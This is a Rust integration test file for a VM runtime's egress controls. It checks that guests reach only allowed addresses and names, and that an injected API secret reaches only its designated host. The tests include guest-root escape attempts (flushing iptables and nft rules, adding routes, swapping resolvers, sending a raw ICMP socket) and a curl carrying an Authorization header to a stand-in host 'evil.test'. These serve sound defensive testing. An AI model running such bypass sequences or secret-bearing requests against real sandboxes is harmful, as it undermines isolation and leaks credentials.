//! Egress policy: what a guest may reach, enforced on the host. The VMs run
//! in a network namespace of the test's own with servers on three
//! addresses and a nameserver with a test zone, so no packet leaves this
//! machine.

use std::time::Instant;

use super::network::{guest_fetch, is_root, Netns};
use super::Env;

/// Allowed by CIDR (and port).
const ALLOWED: &str = "10.77.1.1";
/// Reachable only as the address of an allowed name.
const BY_NAME: &str = "10.77.2.1";
/// Refused (the address of a refused name, and never allowed).
const REFUSED: &str = "10.77.3.1";
const NAMESERVER: &str = "10.77.0.53";
const PORT: u16 = 8080;

/// What connecting from the guest says: `connected`, or bash's error.
fn connect(env: &Env, vm: &str, addr: &str) -> String {
    let script =
        format!("timeout 20 bash -c 'exec 3<>/dev/tcp/{addr}/{PORT} && echo connected' 2>&1; true");
    env.run_ok(&["exec", vm, "--", "sh", "-c", &script])
        .trim()
        .to_string()
}

fn resolve(env: &Env, vm: &str, name: &str) -> String {
    env.run_ok(&[
        "exec",
        vm,
        "--",
        "sh",
        "-c",
        &format!("getent hosts {name}; true"),
    ])
    .split_whitespace()
    .next()
    .unwrap_or("")
    .to_string()
}

/// A raw ICMP echo request from the guest (root): what comes back.
const RAW_PING: &str = r#"
use Socket;
socket(my $s, PF_INET, SOCK_RAW, 1) or die "raw socket: $!";
my $p = pack("C C n n n a*", 8, 0, 0, $$ & 0xffff, 1, "machinen");
my $sum = 0; $sum += $_ for unpack("n*", $p); $sum = ($sum >> 16) + ($sum & 0xffff); $sum += $sum >> 16;
substr($p, 2, 2) = pack("n", ~$sum & 0xffff);
send($s, $p, 0, sockaddr_in(0, inet_aton($ARGV[0]))) or die "send: $!";
my $rin = ''; vec($rin, fileno($s), 1) = 1;
while (select(my $r = $rin, undef, undef, 5)) {
    recv($s, my $buf, 1500, 0);
    my ($type, $code) = unpack("C C", substr($buf, 20, 2));
    if ($type == 0 || $type == 3) { print "icmp $type/$code\n"; exit 0 }
}
print "nothing\n";
"#;

fn err_text(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn egress_policy_refuses_at_once_resolves_only_allowed_names_holds_against_root_and_survives_snapshots(
) {
    if !is_root() {
        eprintln!("skipped: needs root for a network namespace");
        return;
    }
    let env = Env::new();
    let mut ns = Netns::new().expect("a network namespace (ip netns add) as root");
    for a in [ALLOWED, BY_NAME, REFUSED, NAMESERVER] {
        ns.add_addr(&format!("{a}/24"));
    }
    for a in [ALLOWED, BY_NAME, REFUSED] {
        ns.serve(a, PORT);
    }
    ns.dns(
        NAMESERVER,
        &[
            ("api.allowed.test", ALLOWED),
            ("other.allowed.test", BY_NAME),
            ("evil.test", REFUSED),
        ],
    );

    // Bad rules and a policy without a filtered network are refused
    // before anything starts.
    let out = env.run(&["boot", "--allow-net", "10.0.0.0/33", "--", "true"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        err_text(&out).contains("NETWORK_POLICY_INVALID"),
        "{}",
        err_text(&out)
    );
    let out = env.run(&[
        "boot",
        "--network",
        "none",
        "--egress",
        "deny",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        err_text(&out).contains("--network nat"),
        "{}",
        err_text(&out)
    );

    ns.machinen(
        &env,
        &[
            "boot",
            "--name",
            "pol",
            "--memory",
            "256",
            "--detached",
            "--egress",
            "deny",
            "--allow-net",
            &format!("10.77.1.0/24:{PORT}"),
            "--allow-net",
            "*.allowed.test",
        ],
    );
    let ls = env.json(&["ls", "--json"]);
    assert_eq!(ls[0]["net_policy"]["egress"], "deny", "{ls}");

    // An allowed CIDR is reachable; a refused address fails at once with a
    // reset, not a timeout.
    assert_eq!(
        guest_fetch(&env, "pol", ALLOWED, PORT),
        format!("BANNER {ALLOWED}:{PORT}")
    );
    let t = Instant::now();
    let refused = connect(&env, "pol", REFUSED);
    eprintln!(
        "a refused connect took {} ms (exec included)",
        t.elapsed().as_millis()
    );
    assert!(refused.contains("Connection refused"), "{refused}");

    // Names: the test zone through the runtime's resolver. A refused name
    // does not resolve; an allowed one does, and only then is its address
    // reachable (a literal address cannot pass for a name).
    assert!(connect(&env, "pol", BY_NAME).contains("Connection refused"));
    assert_eq!(resolve(&env, "pol", "evil.test"), "");
    assert_eq!(resolve(&env, "pol", "api.allowed.test"), ALLOWED);
    assert_eq!(resolve(&env, "pol", "other.allowed.test"), BY_NAME);
    assert_eq!(connect(&env, "pol", BY_NAME), "connected");

    // Root in the guest cannot lift the policy: routes, firewall, a new
    // address, a resolver of its own, a raw socket.
    let bypass = format!(
        "ip route add {REFUSED}/32 dev eth0 2>&1; \
         (nft flush ruleset; iptables -F; iptables -P OUTPUT ACCEPT) >/dev/null 2>&1; \
         ip addr add 10.0.2.99/24 dev eth0 2>&1; \
         echo nameserver {NAMESERVER} > /etc/resolv.conf; true"
    );
    env.run_ok(&["exec", "pol", "--", "sh", "-c", &bypass]);
    assert!(connect(&env, "pol", REFUSED).contains("Connection refused"));
    let from_new_addr = format!(
        "perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(PeerAddr=>\"{REFUSED}\",PeerPort=>{PORT},LocalAddr=>\"10.0.2.99\",Timeout=>20) ? \"connected\" : \"refused: $!\"'"
    );
    let out = env.run_ok(&["exec", "pol", "--", "sh", "-c", &from_new_addr]);
    assert!(out.contains("refused"), "{out}");
    assert_eq!(
        resolve(&env, "pol", "evil.test"),
        "",
        "its own resolver setting changes nothing"
    );
    let mut c = env
        .cmd(&["cp", "-", "pol:/root/ping.pl"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("cp");
    use std::io::Write;
    c.stdin
        .take()
        .expect("stdin")
        .write_all(RAW_PING.as_bytes())
        .expect("write");
    assert!(c.wait().expect("cp").success());
    let ping = env.run_ok(&["exec", "pol", "--", "perl", "/root/ping.pl", REFUSED]);
    assert_eq!(
        ping.trim(),
        "icmp 3/13",
        "a raw echo is refused as prohibited"
    );

    // A change on the running VM applies to the next connection.
    let t = Instant::now();
    env.run_ok(&["network", "pol", "--allow", &format!("{REFUSED}:{PORT}")]);
    assert_eq!(connect(&env, "pol", REFUSED), "connected");
    eprintln!(
        "policy change to first allowed connection: {} ms (exec included)",
        t.elapsed().as_millis()
    );
    env.run_ok(&["network", "pol", "--remove", &format!("{REFUSED}:{PORT}")]);
    assert!(connect(&env, "pol", REFUSED).contains("Connection refused"));
    let out = env.run(&["network", "pol", "--remove", "192.0.2.99"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(err_text(&out).contains("NETWORK_POLICY_INVALID"));

    // Accounting: traffic, connections, refusals by destination and rule,
    // and the supervisor's log.
    let report = env.json(&["network", "pol", "--json"]);
    let c = &report["counters"];
    assert!(
        c["bytes_out"].as_u64() > Some(0) && c["bytes_in"].as_u64() > Some(0),
        "{report}"
    );
    assert!(c["connections"].as_u64() >= Some(3), "{report}");
    assert!(c["dns_answered"].as_u64() >= Some(2), "{report}");
    let refused_by = c["refused_by"].as_array().expect("refused_by");
    let kind = |proto: &str, dest: &str| {
        refused_by
            .iter()
            .find(|k| k["proto"] == proto && k["destination"] == dest)
            .cloned()
    };
    let tcp = kind("tcp", &format!("{REFUSED}:{PORT}")).expect("tcp refusals");
    assert_eq!(tcp["rule"], "default deny");
    assert!(tcp["count"].as_u64() >= Some(3), "{report}");
    assert!(kind("dns", "evil.test").is_some(), "{report}");
    assert!(kind("icmp", REFUSED).is_some(), "{report}");
    // `stats` carries the same counters.
    let stats = env.json(&["stats", "pol", "--json"]);
    assert!(
        stats["network"]["refused"].as_u64() >= Some(3)
            && stats["network"]["bytes_in"].as_u64() > Some(0),
        "{stats}"
    );
    let log = env.run_ok(&["logs", "pol", "--vmm"]);
    assert!(
        log.contains(&format!(
            "egress refused: tcp {REFUSED}:{PORT} by default deny"
        )),
        "{log}"
    );

    // Snapshot, restore and fork keep the policy; given flags replace it.
    let bundles = tempfile::Builder::new()
        .prefix("mn-np-")
        .tempdir_in("/tmp")
        .expect("tmp");
    let snap = bundles.path().join("pol.snap");
    let snap_s = snap.to_str().expect("path");
    env.run_ok(&["snapshot", "pol", snap_s, "--keep-alive"]);
    let meta: serde_json::Value =
        serde_json::from_slice(&std::fs::read(snap.join("meta.json")).expect("meta"))
            .expect("json");
    assert_eq!(meta["net_policy"]["egress"], "deny", "{meta}");
    ns.machinen(&env, &["restore", snap_s, "--name", "pol2", "--detached"]);
    assert_eq!(
        env.json(&["network", "pol2", "--json"])["policy"],
        report["policy"]
    );
    assert_eq!(
        guest_fetch(&env, "pol2", ALLOWED, PORT),
        format!("BANNER {ALLOWED}:{PORT}")
    );
    assert!(connect(&env, "pol2", REFUSED).contains("Connection refused"));
    env.run_ok(&["stop", "pol2"]);
    ns.machinen(
        &env,
        &[
            "restore",
            snap_s,
            "--name",
            "pol3",
            "--detached",
            "--egress",
            "allow",
        ],
    );
    assert_eq!(connect(&env, "pol3", REFUSED), "connected");
    env.run_ok(&["stop", "pol3"]);
    ns.machinen(&env, &["fork", "pol", "--new-name", "polf", "--detach"]);
    assert_eq!(
        env.json(&["network", "polf", "--json"])["policy"],
        report["policy"]
    );
    assert!(connect(&env, "polf", REFUSED).contains("Connection refused"));
    // The names the source resolved travel with it: a program that looked
    // an address up before the fork still reaches it.
    assert_eq!(connect(&env, "polf", BY_NAME), "connected");
    env.run_ok(&["stop", "polf"]);
    env.run_ok(&["stop", "pol"]);
}

/// An HTTPS server that answers each GET with the SHA-256 of the
/// Authorization header it got, and appends the header to a log on the
/// host: argv ADDR PORT CERT KEY LOG. (Answering with the header itself
/// would hand the value to the guest and put it in its RAM, which is what
/// the test shows never happens.)
const ECHO_SERVER: &str = r#"
import hashlib, http.server, ssl, sys
addr, port, cert, key, log = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        auth = self.headers.get("Authorization")
        with open(log, "a") as f:
            f.write("%s %s\n" % (self.headers.get("Host"), auth))
        body = ("auth-sha256=%s\n" % hashlib.sha256(str(auth).encode()).hexdigest()).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
srv = http.server.HTTPServer((addr, port), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
srv.serve_forever()
"#;

/// The host's curl with every library it links, to run in a guest whose
/// image has none: `ld.so --library-path DIR DIR/curl`.
fn curl_bundle(dir: &std::path::Path) {
    std::fs::create_dir_all(dir).expect("dir");
    let ldd = std::process::Command::new("ldd")
        .arg("/usr/bin/curl")
        .output()
        .expect("ldd /usr/bin/curl (apt-get install curl)");
    assert!(ldd.status.success(), "ldd /usr/bin/curl");
    std::fs::copy("/usr/bin/curl", dir.join("curl")).expect("copy curl");
    for line in String::from_utf8_lossy(&ldd.stdout).lines() {
        let words: Vec<&str> = line.split_whitespace().collect();
        let (name, path) = match words.as_slice() {
            [name, "=>", path, ..] if path.starts_with('/') => (*name, *path),
            [path, ..] if path.starts_with('/') => ("ld.so", *path),
            _ => continue,
        };
        std::fs::copy(path, dir.join(name)).expect("copy a library");
    }
}

#[test]
fn egress_secrets_reach_only_their_host_and_never_the_guest_ram_bundle_or_logs() {
    if !is_root() {
        eprintln!("skipped: needs root for a network namespace");
        return;
    }
    const VALUE: &str = "sk-live-5ecret-value-0451";
    const HTTPS: u16 = 8443;
    let env = Env::new();
    let work = tempfile::Builder::new()
        .prefix("mn-egress-")
        .tempdir_in("/tmp")
        .expect("tmp");
    let w = work.path();

    // A test CA of our own and a certificate for both test hosts.
    let ca_key = rcgen::KeyPair::generate().expect("key");
    let mut p = rcgen::CertificateParams::new(Vec::<String>::new()).expect("params");
    p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    p.distinguished_name
        .push(rcgen::DnType::CommonName, "machinen test CA");
    let ca = p.self_signed(&ca_key).expect("ca");
    let key = rcgen::KeyPair::generate().expect("key");
    let leaf = rcgen::CertificateParams::new(vec![
        "api.allowed.test".to_string(),
        "other.allowed.test".to_string(),
    ])
    .expect("params")
    .signed_by(&key, &ca, &ca_key)
    .expect("leaf");
    std::fs::write(w.join("ca.pem"), ca.pem()).expect("write");
    std::fs::write(w.join("cert.pem"), leaf.pem()).expect("write");
    std::fs::write(w.join("key.pem"), key.serialize_pem()).expect("write");
    std::fs::write(w.join("server.py"), ECHO_SERVER).expect("write");
    let s = |p: &str| w.join(p).to_str().expect("path").to_string();

    let mut ns = Netns::new().expect("a network namespace (ip netns add) as root");
    for a in [ALLOWED, BY_NAME, REFUSED, NAMESERVER] {
        ns.add_addr(&format!("{a}/24"));
    }
    for a in [ALLOWED, BY_NAME] {
        ns.spawn(&[
            "python3",
            &s("server.py"),
            a,
            &HTTPS.to_string(),
            &s("cert.pem"),
            &s("key.pem"),
            &s(&format!("seen-{a}")),
        ]);
        ns.wait_listening(a, HTTPS);
    }
    ns.dns(
        NAMESERVER,
        &[
            ("api.allowed.test", ALLOWED),
            ("other.allowed.test", BY_NAME),
            ("evil.test", REFUSED),
        ],
    );
    // The proxy checks the test servers against the test CA, as it checks
    // real ones against the host's trust store.
    let vars = [
        ("SSL_CERT_FILE", s("ca.pem")),
        ("API_KEY", VALUE.to_string()),
    ];
    let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let machinen = |args: &[&str]| {
        let out = ns.machinen_output_with(&env, &vars, args);
        assert!(
            out.status.success(),
            "machinen {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };

    // Bad flags are refused before anything starts.
    for bad in [
        "API_KEY=x",
        "API_KEY@bad_host=x",
        "SURELY_UNSET_EGRESS_VAR_0451@h.test",
    ] {
        let out =
            ns.machinen_output_with(&env, &vars, &["boot", "--egress-secret", bad, "--", "true"]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(
            err_text(&out).contains("SECRETS_INVALID"),
            "{}",
            err_text(&out)
        );
    }

    machinen(&[
        "boot",
        "--name",
        "sec",
        "--memory",
        "256",
        "--detached",
        "--egress",
        "deny",
        "--allow-net",
        "*.allowed.test",
        "--egress-secret",
        "API_KEY@api.allowed.test",
    ]);
    curl_bundle(&w.join("curl"));
    env.run_ok(&["cp", "-r", &s("curl"), "sec:/opt/curl"]);
    env.run_ok(&["cp", &s("ca.pem"), "sec:/root/test-ca.pem"]);
    let curl = |vm: &str, url: &str, extra: &str| {
        let script = format!(
            "/opt/curl/ld.so --library-path /opt/curl /opt/curl/curl -sS --max-time 30 {extra} \
             -H \"Authorization: Bearer $API_KEY\" {url} 2>&1; true"
        );
        env.run_ok(&["exec", vm, "--", "sh", "-c", &script])
            .trim()
            .to_string()
    };

    let ls = env.json(&["ls", "--json"]);
    assert_eq!(ls[0]["egress_secrets"][0]["name"], "API_KEY", "{ls}");
    assert_eq!(
        ls[0]["egress_secrets"][0]["hosts"][0], "api.allowed.test",
        "{ls}"
    );
    // The guest holds a placeholder, never the value.
    let placeholder = env
        .run_ok(&["exec", "sec", "--", "sh", "-c", "echo $API_KEY"])
        .trim()
        .to_string();
    assert!(
        placeholder.starts_with("machinen-egress-api_key-"),
        "{placeholder}"
    );
    let api = format!("https://api.allowed.test:{HTTPS}/");
    let other = format!("https://other.allowed.test:{HTTPS}/");
    // The host with the secret gets the value (through a TLS the guest
    // trusts: the VM's CA) ...
    let answer = |auth: &str| format!("auth-sha256={}", super::sha256_hex(auth.as_bytes()));
    assert_eq!(curl("sec", &api, ""), answer(&format!("Bearer {VALUE}")));
    // ... any other host only the placeholder (its TLS is end to end: the
    // guest checks the test server itself).
    assert_eq!(
        curl("sec", &other, "--cacert /root/test-ca.pem"),
        answer(&format!("Bearer {placeholder}"))
    );
    // The proxy keeps to the policy: a refused name gets a 403.
    let refused = curl("sec", &format!("https://evil.test:{HTTPS}/"), "");
    assert!(refused.contains("403"), "{refused}");
    let seen = std::fs::read_to_string(w.join(format!("seen-{BY_NAME}"))).expect("log");
    assert!(
        !seen.contains(VALUE),
        "the other host saw the value: {seen}"
    );
    let report = env.json(&["network", "sec", "--json"]);
    assert!(
        report["counters"]["refused_by"]
            .as_array()
            .expect("refused_by")
            .iter()
            .any(|k| k["destination"] == format!("evil.test:{HTTPS}")),
        "{report}"
    );

    // Nowhere on this side either: not in the guest's RAM, the VM's files
    // and logs, or a bundle (which keeps the placeholder for restores).
    let bundles = tempfile::Builder::new()
        .prefix("mn-es-")
        .tempdir_in("/tmp")
        .expect("tmp");
    let snap = bundles.path().join("sec.snap");
    let snap_s = snap.to_str().expect("path");
    env.run_ok(&["snapshot", "sec", snap_s, "--keep-alive"]);
    let meta: serde_json::Value =
        serde_json::from_slice(&std::fs::read(snap.join("meta.json")).expect("meta"))
            .expect("json");
    assert_eq!(
        meta["egress_secrets"][0]["placeholder"], placeholder,
        "{meta}"
    );
    let mut searched = vec![snap.clone()];
    for dir in env.vm_dirs() {
        let spec: serde_json::Value =
            serde_json::from_slice(&std::fs::read(dir.join("spec.json")).expect("spec"))
                .expect("spec json");
        if let Some(ram) = spec["ram_file"].as_str() {
            searched.push(ram.into());
        }
        searched.push(dir);
    }
    for p in &searched {
        let grep = std::process::Command::new("grep")
            .args(["-r", "-a", "-l", "-F", VALUE])
            .arg(p)
            .output()
            .expect("grep");
        assert_eq!(
            grep.status.code(),
            Some(1),
            "the value is in {}: {}",
            p.display(),
            String::from_utf8_lossy(&grep.stdout)
        );
    }
    eprintln!("searched for the value: {searched:?}");

    // A restore keeps the placeholder; without the value its requests are
    // refused (saying how to give it), with it they work again.
    machinen(&["restore", snap_s, "--name", "sec2", "--detached"]);
    assert_eq!(
        env.run_ok(&["exec", "sec2", "--", "sh", "-c", "echo $API_KEY"])
            .trim(),
        placeholder
    );
    let without = curl("sec2", &api, "");
    assert!(without.contains("has no value"), "{without}");
    env.run_ok(&["stop", "sec2"]);
    machinen(&[
        "restore",
        snap_s,
        "--name",
        "sec3",
        "--detached",
        "--egress-secret",
        "API_KEY@api.allowed.test",
    ]);
    assert_eq!(curl("sec3", &api, ""), answer(&format!("Bearer {VALUE}")));
    env.run_ok(&["stop", "sec3"]);
    env.run_ok(&["stop", "sec"]);
}
